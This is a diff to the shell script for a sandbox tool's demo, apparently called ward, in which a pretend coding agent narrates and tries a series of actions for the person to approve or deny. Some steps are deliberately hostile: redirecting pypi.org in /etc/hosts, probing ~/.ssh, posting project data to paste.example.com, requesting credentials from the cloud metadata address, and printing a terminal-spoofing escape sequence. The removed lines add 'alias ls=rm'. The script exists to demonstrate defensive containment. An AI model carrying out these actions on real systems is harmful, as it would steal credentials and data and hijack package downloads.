@@ -1,33 +1,102 @@
 #!/bin/sh
-# A pretend coding agent, for `ward demo`. It works inside the sandbox,
-# writes its results to /out, and twice tries to change something outside
-# (a file in a host folder it was shown read-only, and /etc), so that the
-# console has requests to approve or deny. WARD_DEMO_DIR names the folder.
+# ward demo's pretend coding agent. Each step says, in one plain sentence,
+# what the agent is about to try and what ward will do, then tries it.
+# WARD_DEMO_DIR: the demo's folder on the host (its project/ is the
+# project the agent edits); WARD_DEMO_HOME: the person's real home;
+# WARD_DEMO_WORLD: yes when the fake outside world is there;
+# WARD_DEMO_STEP_MS: the pause after each sentence.
 set -u
-say() { printf '\033[1;36magent:\033[0m %s\n' "$*"; sleep 1; }
+n=0
+pause=$(awk "BEGIN { print ${WARD_DEMO_STEP_MS:-1000} / 1000 }")
+step() {
+	n=$((n + 1))
+	printf '\n== step %d of 8: %s\n' "$n" "$1"
+	printf '   ward: %s\n' "$2"
+	sleep "$pause"
+}
+result() { printf '   result: %s\n' "$*"; }
+project=$WARD_DEMO_DIR/project
 
-say "reading the task"
-say "working in $(pwd) as uid $(id -u)"
-mkdir -p /work/src
-printf 'def add(a, b):\n    return a + b\n' > /work/src/calc.py
-say "wrote /work/src/calc.py (inside the sandbox: no question asked)"
-printf 'tests: 3 passed\n' > /out/report.txt
-say "wrote /out/report.txt (the output folder: no question asked)"
+step "the agent writes its scratch files and its report" \
+    "lets it: /work and /out are the run's own folders, nothing to ask"
+mkdir -p /work/notes
+echo "plan: greet by name, with a test" >/work/notes/plan.txt
+echo "tests: 1 passed" >/out/report.txt
+result "wrote /work/notes/plan.txt and /out/report.txt"
 
-say "now updating ${WARD_DEMO_DIR}/notes.txt on the host -- this needs you"
-if echo "agent was here: $(date)" >> "${WARD_DEMO_DIR}/notes.txt"; then
-	say "notes.txt updated"
+step "the agent changes app.py in your project" \
+    "lets it, but keeps the change in the run: your folder stays as it was until you apply it (press c for the diff)"
+cat >"$project/app.py" <<'PY'
+def greet(name):
+    return f"Hello, {name}!"
+
+
+if __name__ == '__main__':
+    print(greet('world'))
+PY
+result "app.py changed (staged; ward diff shows it, ward apply puts it in place)"
+
+step "the agent tries to change /etc/hosts, a system file outside its folders" \
+    "stops the write and asks you: allow (a) or deny (d)"
+if echo "203.0.113.7 pypi.org" 2>/dev/null >>/etc/hosts; then
+	result "/etc/hosts changed (you allowed it)"
 else
-	say "could not update notes.txt (denied)"
+	result "/etc/hosts left alone (denied)"
 fi
 
-say "and trying to install a helper into /etc -- deny this one"
-if echo 'alias ls=rm' 2>/dev/null > /etc/ward-demo-profile; then
-	say "/etc/ward-demo-profile written"
+step "the agent looks for your SSH keys in ~/.ssh" \
+    "has nothing to ask: your home is not in the sandbox, so there is nothing to find"
+if ls "$WARD_DEMO_HOME/.ssh" >/dev/null 2>&1; then
+	result "it could list $WARD_DEMO_HOME/.ssh"
 else
-	say "/etc/ward-demo-profile refused"
+	result "no such folder in here: your keys stay out of reach"
 fi
 
-# A hostile string: the console shows these bytes, it does not obey them.
-printf 'agent: escape test: \033]0;pwned\007 \342\200\256txt.exe\n'
-say "done; results in /out"
+if [ "${WARD_DEMO_WORLD:-no}" = yes ]; then
+	step "the agent sends a file to paste.example.com, a site on the internet" \
+	    "asks you first for the name, then for the connection (a paste site is how data leaves)"
+	python3 - <<'PY' 2>/dev/null
+import socket
+try:
+    s = socket.create_connection(("paste.example.com", 80), timeout=60)
+    s.sendall(b"POST / HTTP/1.0\r\nContent-Length: 12\r\n\r\nproject data")
+    print("   result: the file was sent")
+except OSError as e:
+    print("   result: not sent (%s)" % (e.strerror or e))
+PY
+
+	step "the agent installs the Python package wardtiny with pip, from pypi.org" \
+	    "asks you, showing the package and the host it comes from"
+	if python3 -m pip --version >/dev/null 2>&1; then
+		PIP_CONFIG_FILE=/dev/null python3 -m pip install -q \
+		    --disable-pip-version-check --no-cache-dir --target /work/lib \
+		    -i http://pypi.org/simple --trusted-host pypi.org wardtiny \
+		    >/work/pip.log 2>&1 &&
+		    result "wardtiny installed in the run's own folder" ||
+		    result "not installed (denied)"
+	else
+		result "skipped: pip is not installed on this machine"
+	fi
+else
+	step "the agent sends a file to paste.example.com" \
+	    "would ask you (skipped: no fake network could be made here)"
+	step "the agent installs a package with pip" \
+	    "would ask you (skipped: no fake network could be made here)"
+fi
+
+step "the agent asks the cloud metadata address 169.254.169.254 for credentials" \
+    "refuses without asking: that address is on the never list"
+python3 - <<'PY' 2>/dev/null || result "refused"
+import socket
+try:
+    socket.create_connection(("169.254.169.254", 80), timeout=5)
+    print("   result: connected")
+except OSError as e:
+    print("   result: refused (%s)" % (e.strerror or e))
+PY
+
+step "the agent prints a sequence that would rename your terminal's window" \
+    "shows it as visible text, never obeys it"
+printf 'agent output: \033]0;pwned\007 \342\200\256txt.exe\n'
+
+printf '\n== done: the agent is finished. Its change to app.py waits for you: ward diff, ward apply.\n'
